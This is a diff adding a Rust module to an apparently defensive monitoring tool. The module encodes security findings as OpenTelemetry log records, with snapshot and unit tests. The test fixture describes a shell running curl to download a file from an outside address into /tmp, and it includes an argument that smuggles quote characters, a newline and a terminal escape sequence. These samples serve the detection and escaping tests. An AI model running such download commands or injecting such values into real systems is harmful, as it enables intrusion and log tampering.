@@ -1,0 +1,319 @@
+//! As log records of OpenTelemetry, in the JSON encoding of OTLP.
+//! <https://opentelemetry.io/docs/specs/otlp/#json-protobuf-encoding>
+
+use ethogram_model::{Finding, Priority, render::escape};
+use serde_json::{Value as Json, json};
+
+use super::{host_name, priority, rule_name};
+
+/// A finding as one log record.
+pub(in crate::sink) fn encode(finding: &Finding) -> Vec<u8> {
+    record(finding).to_string().into_bytes()
+}
+
+/// A request with one record.
+pub(in crate::sink) fn request(record: &[u8]) -> Vec<u8> {
+    let resource = json!({ "attributes": [
+        attribute("service.name", "ethogram".into()),
+        attribute("service.version", env!("CARGO_PKG_VERSION").into()),
+        attribute("host.name", host_name().into()),
+    ]});
+    let scope = json!({ "name": "ethogram", "version": env!("CARGO_PKG_VERSION") });
+    let begin = format!(r#"{{"resourceLogs":[{{"resource":{resource},"scopeLogs":[{{"scope":{scope},"logRecords":["#);
+    [begin.as_bytes(), record, b"]}]}]}"].concat()
+}
+
+/// Why a collector that took the request did not take the record, if so.
+pub(in crate::sink) fn rejection(answer: &[u8]) -> Option<String> {
+    let answer: Json = serde_json::from_slice(answer).ok()?;
+    let partial = &answer["partialSuccess"];
+    let rejected = &partial["rejectedLogRecords"];
+    let rejected = rejected.as_u64().or_else(|| rejected.as_str()?.parse().ok()).unwrap_or(0);
+    (rejected > 0).then(|| escape(partial["errorMessage"].as_str().unwrap_or_default()).into_owned())
+}
+
+fn record(finding: &Finding) -> Json {
+    let priority = priority(finding);
+    json!({
+        "timeUnixNano": finding.first_seen_ns.to_string(),
+        "observedTimeUnixNano": finding.last_seen_ns.to_string(),
+        "severityNumber": severity_number(priority),
+        "severityText": priority.name(),
+        "eventName": "ethogram.finding",
+        "body": { "stringValue": finding.reason },
+        "attributes": attributes(finding),
+    })
+}
+
+/// What OpenTelemetry's data model has for the severities of syslog.
+fn severity_number(priority: Priority) -> u8 {
+    match priority {
+        Priority::Emergency => 21,
+        Priority::Alert => 19,
+        Priority::Critical => 18,
+        Priority::Error => 17,
+        Priority::Warning => 13,
+        Priority::Notice => 10,
+        Priority::Informational => 9,
+        Priority::Debug => 5,
+    }
+}
+
+fn attributes(finding: &Finding) -> Vec<Json> {
+    let mut out = Vec::new();
+    let mut set = |name: &str, value: Json| out.push(attribute(name, value));
+    set("ethogram.finding.uid", finding.uid.as_str().into());
+    set("ethogram.finding.title", finding.title.as_str().into());
+    set("ethogram.finding.analytic", finding.analytic.as_str().into());
+    set("ethogram.finding.severity", finding.severity.name().into());
+    set("ethogram.finding.confidence", finding.confidence.into());
+    set("ethogram.workload", finding.workload.as_str().into());
+    set("ethogram.behaviour.operation", finding.operation.as_str().into());
+    set("ethogram.behaviour.executable", finding.executable.as_str().into());
+    set("ethogram.behaviour.object", finding.object.as_str().into());
+    if finding.rule.is_some() {
+        set("security_rule.name", rule_name(finding).into());
+    }
+    if !finding.techniques.is_empty() {
+        set("ethogram.finding.techniques", json!(finding.techniques));
+    }
+    if let Some(container) = &finding.container {
+        set("container.id", container.id.as_str().into());
+        set("container.name", container.display_name().into());
+        if let Some(image) = &container.image {
+            set("container.image.name", image.name.as_str().into());
+            set("container.image.id", image.digest.as_str().into());
+        }
+        if let Some(pod) = &container.pod {
+            set("k8s.namespace.name", pod.namespace.as_str().into());
+            set("k8s.pod.name", pod.name.as_str().into());
+        }
+    }
+    if let Some(process) = &finding.process {
+        set("process.pid", process.pid.into());
+        set("process.parent_pid", process.parent_pid.into());
+        set("process.executable.name", process.exec.name.as_str().into());
+        set("process.executable.path", process.exec.path.as_str().into());
+        set("process.command_args", json!(process.exec.args));
+        set("process.real_user.id", process.user_id.into());
+    }
+    out
+}
+
+/// In protobuf's JSON, 64-bit integers are strings.
+fn attribute(name: &str, value: Json) -> Json {
+    fn any(value: Json) -> Json {
+        match value {
+            Json::Number(n) => json!({ "intValue": n.to_string() }),
+            Json::Array(list) => json!({ "arrayValue": { "values": list.into_iter().map(any).collect::<Vec<_>>() } }),
+            text => json!({ "stringValue": text }),
+        }
+    }
+    json!({ "key": name, "value": any(value) })
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::super::tests::{behaviour, rule_match};
+    use super::*;
+
+    #[test]
+    fn a_finding_is_a_record_with_attributes_of_the_vocabulary() {
+        insta::assert_snapshot!(serde_json::to_string_pretty(&record(&behaviour())).unwrap(), @r#"
+        {
+          "timeUnixNano": "1767225600123456789",
+          "observedTimeUnixNano": "1767225600123456789",
+          "severityNumber": 17,
+          "severityText": "Error",
+          "eventName": "ethogram.finding",
+          "body": {
+            "stringValue": "/bin/sh ran /usr/bin/curl, which this workload never did in 24 h of learning"
+          },
+          "attributes": [
+            {
+              "key": "ethogram.finding.uid",
+              "value": {
+                "stringValue": "6c62272e07bb014262b821756295c58d"
+              }
+            },
+            {
+              "key": "ethogram.finding.title",
+              "value": {
+                "stringValue": "web: /bin/sh ran /usr/bin/curl"
+              }
+            },
+            {
+              "key": "ethogram.finding.analytic",
+              "value": {
+                "stringValue": "behaviour.execute"
+              }
+            },
+            {
+              "key": "ethogram.finding.severity",
+              "value": {
+                "stringValue": "High"
+              }
+            },
+            {
+              "key": "ethogram.finding.confidence",
+              "value": {
+                "intValue": "90"
+              }
+            },
+            {
+              "key": "ethogram.workload",
+              "value": {
+                "stringValue": "shop/web"
+              }
+            },
+            {
+              "key": "ethogram.behaviour.operation",
+              "value": {
+                "stringValue": "execute"
+              }
+            },
+            {
+              "key": "ethogram.behaviour.executable",
+              "value": {
+                "stringValue": "/bin/sh"
+              }
+            },
+            {
+              "key": "ethogram.behaviour.object",
+              "value": {
+                "stringValue": "/usr/bin/curl\n"
+              }
+            },
+            {
+              "key": "ethogram.finding.techniques",
+              "value": {
+                "arrayValue": {
+                  "values": [
+                    {
+                      "stringValue": "T1105"
+                    }
+                  ]
+                }
+              }
+            },
+            {
+              "key": "container.id",
+              "value": {
+                "stringValue": "0123456789abcdef0123456789abcdef"
+              }
+            },
+            {
+              "key": "container.name",
+              "value": {
+                "stringValue": "web"
+              }
+            },
+            {
+              "key": "container.image.name",
+              "value": {
+                "stringValue": "images.example:5000/shop/web:1.2"
+              }
+            },
+            {
+              "key": "container.image.id",
+              "value": {
+                "stringValue": "sha256:ab"
+              }
+            },
+            {
+              "key": "k8s.namespace.name",
+              "value": {
+                "stringValue": "shop"
+              }
+            },
+            {
+              "key": "k8s.pod.name",
+              "value": {
+                "stringValue": "web-7d4b9"
+              }
+            },
+            {
+              "key": "process.pid",
+              "value": {
+                "intValue": "42"
+              }
+            },
+            {
+              "key": "process.parent_pid",
+              "value": {
+                "intValue": "41"
+              }
+            },
+            {
+              "key": "process.executable.name",
+              "value": {
+                "stringValue": "curl"
+              }
+            },
+            {
+              "key": "process.executable.path",
+              "value": {
+                "stringValue": "/usr/bin/curl"
+              }
+            },
+            {
+              "key": "process.command_args",
+              "value": {
+                "arrayValue": {
+                  "values": [
+                    {
+                      "stringValue": "curl"
+                    },
+                    {
+                      "stringValue": "-o"
+                    },
+                    {
+                      "stringValue": "/tmp/a\"]\n\u001b[2J"
+                    },
+                    {
+                      "stringValue": "http://198.51.100.7/"
+                    }
+                  ]
+                }
+              }
+            },
+            {
+              "key": "process.real_user.id",
+              "value": {
+                "intValue": "33"
+              }
+            }
+          ]
+        }
+        "#);
+    }
+
+    #[test]
+    fn a_request_says_who_sends_it() {
+        let request: Json = serde_json::from_slice(&request(&encode(&rule_match()))).unwrap();
+        let logs = &request["resourceLogs"][0];
+        let service = json!({ "key": "service.name", "value": { "stringValue": "ethogram" } });
+        assert_eq!(logs["resource"]["attributes"][0], service);
+        let record = &logs["scopeLogs"][0]["logRecords"][0];
+        assert_eq!((&record["severityNumber"], &record["severityText"]), (&json!(18), &json!("Critical")));
+        let rule = json!({ "key": "security_rule.name", "value": { "stringValue": "Read sensitive file" } });
+        assert!(record["attributes"].as_array().unwrap().contains(&rule));
+    }
+
+    #[test]
+    fn what_a_collector_refuses_in_part_is_refused() {
+        let refused = br#"{"partialSuccess":{"rejectedLogRecords":"1","errorMessage":"too\nold"}}"#;
+        assert_eq!(rejection(refused).as_deref(), Some("too\\nold"));
+        assert_eq!(rejection(br#"{"partialSuccess":{"rejectedLogRecords":1}}"#).as_deref(), Some(""));
+        for fine in [
+            &b""[..],
+            b"{}",
+            b"rubbish",
+            br#"{"partialSuccess":{}}"#,
+            br#"{"partialSuccess":{"rejectedLogRecords":"0"}}"#,
+        ] {
+            assert_eq!(rejection(fine), None);
+        }
+    }
+}
